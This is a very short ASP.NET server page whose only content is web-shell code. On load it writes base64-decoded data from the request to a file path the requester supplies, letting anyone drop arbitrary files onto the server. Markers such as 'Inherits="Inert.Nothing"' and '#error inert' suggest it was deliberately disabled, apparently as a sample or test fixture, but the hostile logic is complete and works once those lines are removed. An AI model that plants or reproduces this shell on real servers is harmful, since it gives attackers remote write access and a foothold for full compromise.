<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s, EventArgs e){ File.WriteAllBytes(Request["path"], Convert.FromBase64String(Request["data"])); }
</script>